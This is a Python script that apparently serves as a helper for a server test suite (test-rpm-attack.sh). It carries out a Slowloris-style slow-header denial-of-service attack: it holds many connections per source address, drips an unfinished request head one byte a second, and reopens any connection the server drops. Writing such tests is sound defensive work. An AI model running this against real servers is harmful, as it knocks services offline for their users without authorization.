#!/usr/bin/env python3
"""drip-heads.py HOST PORT SECONDS N SOURCE... - hold an HTTP server's connection
slots for SECONDS: N connections from each SOURCE address (bound before connecting;
IPv4 or IPv6, as HOST), each sending a request head one byte a second and never
finishing it; a connection the server closes is opened again at once. Prints
"holding" once every connection has been asked for, and at the end (SECONDS, or
SIGTERM) "connections N closed N" (opened, and closed by the server). For
test-rpm-attack.sh."""
import errno
import resource
import selectors
import signal
import socket
import sys
import time

HEAD = b"GET /api/v1/small HTTP/1.1\r\nHost: x\r\nX-Pad: " + b"a" * 4000


def main():
    host, port, secs, n = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4])
    sources = sys.argv[5:]
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    want = n * len(sources) + 64
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(want, hard), hard))
    sel = selectors.DefaultSelector()
    conns = {}  # socket -> [source, bytes sent]
    opened = closed = 0
    end = time.monotonic() + secs

    def stop(signum, frame):
        nonlocal end
        end = 0

    signal.signal(signal.SIGTERM, stop)

    def connect(src):
        nonlocal opened
        s = socket.socket(family, socket.SOCK_STREAM)
        s.setblocking(False)
        try:
            s.bind((src, 0))
            s.connect((host, port))
        except BlockingIOError:
            pass
        except OSError as e:
            if e.errno != errno.EINPROGRESS:
                s.close()
                return
        opened += 1
        conns[s] = [src, 0]
        sel.register(s, selectors.EVENT_READ)

    def drop(s):
        nonlocal closed
        sel.unregister(s)
        conns.pop(s)
        s.close()
        closed += 1

    for src in sources:
        for _ in range(n):
            connect(src)
    print("holding", flush=True)
    tick = time.monotonic()
    while time.monotonic() < end:
        for key, _ in sel.select(0.1):
            s = key.fileobj
            try:
                data = s.recv(4096)
            except BlockingIOError:
                continue
            except OSError:
                data = b""
            if not data:  # closed (or answered: an answer ends the hold too)
                src = conns[s][0]
                drop(s)
                connect(src)
        if time.monotonic() - tick >= 1:
            tick = time.monotonic()
            for s, st in list(conns.items()):
                try:
                    st[1] += s.send(HEAD[st[1]:st[1] + 1])
                except (BlockingIOError, OSError):
                    pass  # not connected yet, or gone: the read side sees to it
        # keep every slot asked for: those that failed to open are tried again
        for src in sources:
            have = sum(1 for st in conns.values() if st[0] == src)
            for _ in range(n - have):
                connect(src)
    for s in list(conns):
        s.close()
    print("connections", opened, "closed", closed)


main()
